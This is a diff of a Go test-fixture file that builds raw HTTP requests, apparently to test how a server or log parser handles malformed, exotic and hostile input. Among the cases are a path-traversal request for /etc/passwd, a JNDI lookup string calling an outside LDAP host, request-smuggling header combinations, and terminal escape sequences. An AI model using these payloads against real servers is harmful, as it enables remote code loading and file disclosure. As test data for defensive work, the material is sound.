@@ -10,18 +10,19 @@ type exchange struct {
 	name  string
 	raw   string
 	asks  []ask // what is asked in it, in order
-	leave bool  // the client leaves when it has sent, and waits for no answer
+	final bool  // the client says that it will send no more
 	slow  bool  // the client leaves when the server behind has got the request
 }
 
 // ask is one request as the client meant it, or as it must be kept where it is
 // none. Texts are the bytes that were sent; "" is nothing.
 type ask struct {
-	method, path, host             string
-	userAgent, referer, forwarded  string
-	user                           string // of Authorization: Basic
-	malformed                      bool   // a server may refuse it before it has read the header
-	withoutStatus, withoutResponse bool
+	method, path, host            string
+	userAgent, referer, forwarded string
+	user                          string // of Authorization: Basic
+	malformed                     bool   // a server may refuse it before it has read the header
+	peer                          string // address that it came from
+	listed                        string // what stands for X-Forwarded-For where a log has no other place for it
 }
 
 const (
@@ -70,10 +71,16 @@ func refused(name, raw string, a ask) exchange {
 	return one(name, raw, a)
 }
 
+// cutOff is a request, or a part of one, behind which nothing comes any more.
+func cutOff(name, raw string, a ask) exchange {
+	x := refused(name, raw, a)
+	x.final = true
+	return x
+}
+
 // garbage is no request: all of it is kept, as the path.
-func garbage(name, raw string) exchange {
-	line, _, _ := strings.Cut(raw, "\n")
-	return refused(name, raw, ask{path: strings.TrimSuffix(line, "\r")})
+func garbage(name, line string) exchange {
+	return cutOff(name, line+"\r\n\r\n", ask{path: line})
 }
 
 func exchanges() []exchange {
@@ -91,7 +98,7 @@ func targets() []exchange {
 			ask{method: "GET", path: "/v1/orders/17?page=2", host: shop, userAgent: browser, referer: "https://shop.example/", forwarded: "203.0.113.7"}),
 		withPath("escapes in the path and in the query", "/a%20b/%2e%2e/c%2Fd?q=%22x%22&r=%5C&s=%00"),
 		withPath("double slashes and dots", "//a///b/../c/./d"),
-		withPath("a climb out of the root", "/%2e%2e/..%2f..%2fetc/passwd"),
+		refused("a climb out of the root", get("/%2e%2e/..%2f..%2fetc/passwd"), fine("/%2e%2e/..%2f..%2fetc/passwd")),
 		withPath("a query of queries", "/?a=/x?b=http://y/?c"),
 		withPath("JNDI", "/?x=${jndi:ldap://203.0.113.9/a}"),
 		withPath("quotes and backslashes", `/a"b\c\"d\x22e\\`),
@@ -117,7 +124,7 @@ func targets() []exchange {
 			ask{method: "GET", path: "ftp://api.example/v1", host: "api.example"}),
 		refused("CONNECT", "CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n"+closing,
 			ask{method: "CONNECT", path: "mail.example:25", host: "mail.example:25"}),
-		one("OPTIONS of everything", "OPTIONS * HTTP/1.1\r\nHost: shop.example\r\n"+closing,
+		refused("OPTIONS of everything", "OPTIONS * HTTP/1.1\r\nHost: shop.example\r\n"+closing,
 			ask{method: "OPTIONS", path: "*", host: shop}),
 	}
 }
@@ -133,21 +140,21 @@ func lines() []exchange {
 		one("an unknown method", "FROBNICATE /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "FROBNICATE", path: "/x", host: shop}),
 		refused("a method with a hyphen", "M-SEARCH /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "M-SEARCH", path: "/x", host: shop}),
 		refused("a method in lower case", "get /lower HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "get", path: "/lower", host: shop}),
-		refused("a method with digits and dots", "G.3T /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{path: "G.3T /x HTTP/1.1"}),
+		refused("a method with digits and dots", "G.3T /x HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "G.3T", path: "/x", host: shop}),
 		one("HTTP/1.0 without a host", "GET /ten HTTP/1.0\r\n\r\n", ask{method: "GET", path: "/ten"}),
-		refused("HTTP/0.9", "GET /nine\r\n", ask{method: "GET", path: "/nine"}),
+		cutOff("HTTP/0.9", "GET /nine\r\n", ask{method: "GET", path: "/nine"}),
 		refused("HTTP/1.7", "GET /v HTTP/1.7\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/v", host: shop}),
 		refused("HTTP/9.9", "GET /v HTTP/9.9\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/v", host: shop}),
-		refused("RTSP", "OPTIONS / RTSP/1.0\r\n\r\n", ask{path: "OPTIONS / RTSP/1.0"}),
+		refused("RTSP", "OPTIONS / RTSP/1.0\r\n\r\n", ask{method: "OPTIONS", path: "/ RTSP/1.0"}),
 		refused("several blanks", "GET   /blanks   HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/blanks", host: shop}),
 		one("bare line feeds", "GET /lf HTTP/1.1\nHost: shop.example\nConnection: close\n\n", ask{method: "GET", path: "/lf", host: shop, malformed: true}),
 		one("empty lines in front", "\r\n\r\nGET /late HTTP/1.1\r\nHost: shop.example\r\n"+closing, ask{method: "GET", path: "/late", host: shop, malformed: true}),
-		garbage("a TLS hello", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\"\\\xd1\x89\x7f\x1f\xe2\x04 \x0d\x0e\x00\r\n\r\n"),
-		garbage("an SSH client", "SSH-2.0-OpenSSH_9.6\r\n\r\n"),
-		garbage("an SMB client", "\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8\r\n\r\n"),
-		garbage("a quote", "\"\r\n\r\n"),
-		garbage("a minus", "-\r\n\r\n"),
-		refused("the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", ask{method: "PRI", path: "*"}),
+		garbage("a TLS hello", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\"\\\xd1\x89\x7f\x1f\xe2\x04 \x0e\x01"),
+		garbage("an SSH client", "SSH-2.0-OpenSSH_9.6"),
+		garbage("an SMB client", "\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8"),
+		garbage("a quote", "\""),
+		cutOff("a minus", "-\r\n\r\n", ask{}), // that is how logs write that there is nothing
+		cutOff("the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", ask{method: "PRI", path: "*"}),
 	}
 }
 
@@ -164,12 +171,12 @@ func headers() []exchange {
 		withUserAgent("a user agent in Unicode", "агент 🙂 \u202eevil\ufeff"),
 		withUserAgent("a user agent of escapes", `\u0000 \ud800 \n \t %22 &quot;`),
 		withUserAgent("a user agent that is not UTF-8", "x\xc3(\xff"),
-		withUserAgent("a minus for a user agent", "-"),
+		one("a minus for a user agent", get("/ua", "User-Agent: -"), fine("/ua")),
 		withUserAgent("an empty user agent", ""),
 		refused("a user agent with control characters", get("/ua", "User-Agent: \x1b[2J\x07x"), fine("/ua").with(func(a *ask) { a.userAgent = "\x1b[2J\x07x" })),
 		refused("a user agent with DEL", get("/ua", "User-Agent: a\x7fb"), fine("/ua").with(func(a *ask) { a.userAgent = "a\x7fb" })),
 		withReferer("a referer with quotes", `https://shop.example/"\"?q='\`),
-		withReferer("a referer of 2,500 bytes", strings.TrimSpace(long)),
+		withReferer("a referer of 2,500 bytes", "https://shop.example/"+strings.Repeat("long/", 500)),
 		withForwarded("a list of proxies", "203.0.113.7, 198.51.100.2,192.0.2.9", "X-Forwarded-For: 203.0.113.7, 198.51.100.2,192.0.2.9"),
 		withForwarded("a list with rubbish", `unknown, "x", [::1]:80, \, 203.0.113.7`, `X-Forwarded-For: unknown, "x", [::1]:80, \, 203.0.113.7`),
 		withForwarded("lists in two headers", "203.0.113.7, 198.51.100.2, 192.0.2.9", "X-Forwarded-For: 203.0.113.7, 198.51.100.2", "x-forwarded-for: 192.0.2.9"),
@@ -209,18 +216,15 @@ func users() []exchange {
 func connections() []exchange {
 	plain := "GET /p1 HTTP/1.1\r\nHost: shop.example\r\n\r\n"
 	return []exchange{
-		{name: "nothing at all", leave: true},
+		{name: "nothing at all", final: true},
 		{name: "three at once",
 			raw:  plain + "HEAD /p2 HTTP/1.1\r\nHost: api.example\r\nUser-Agent: two\r\n\r\n" + get("/p3"),
 			asks: []ask{fine("/p1"), {method: "HEAD", path: "/p2", host: "api.example", userAgent: "two"}, fine("/p3")}},
-		{name: "half a request line", raw: "GET /half", leave: true,
-			asks: []ask{{method: "GET", path: "/half", malformed: true, withoutResponse: true}}},
-		{name: "half a header", raw: "GET /halfhead HTTP/1.1\r\nHost: shop.example\r\nUser-", leave: true,
-			asks: []ask{fine("/halfhead").with(func(a *ask) { a.malformed, a.withoutResponse = true, true })}},
-		{name: "half a body", raw: "POST /halfbody HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 100\r\n\r\nhalf", leave: true,
-			asks: []ask{{method: "POST", path: "/halfbody", host: shop, withoutResponse: true, malformed: true}}},
-		{name: "a client that does not wait", raw: "GET /slow HTTP/1.1\r\nHost: shop.example\r\n\r\n", slow: true,
-			asks: []ask{fine("/slow").with(func(a *ask) { a.withoutResponse = true })}},
+		cutOff("half a request line", "GET /half", ask{method: "GET", path: "/half"}),
+		cutOff("half a header", "GET /halfhead HTTP/1.1\r\nHost: shop.example\r\nUser-", fine("/halfhead")),
+		cutOff("half a body", "POST /halfbody HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 100\r\n\r\nhalf",
+			ask{method: "POST", path: "/halfbody", host: shop}),
+		{name: "a client that does not wait", raw: "GET /slow HTTP/1.1\r\nHost: shop.example\r\n\r\n", slow: true, asks: []ask{fine("/slow")}},
 		refused("a length that is none", "POST /length HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 1x\r\n"+closing, ask{method: "POST", path: "/length", host: shop}),
 		refused("two lengths", "POST /length HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 1\r\nContent-Length: 2\r\n"+closing+"a", ask{method: "POST", path: "/length", host: shop}),
 		refused("length and chunks", "POST /both HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n"+closing+"0\r\n\r\n", ask{method: "POST", path: "/both", host: shop}),
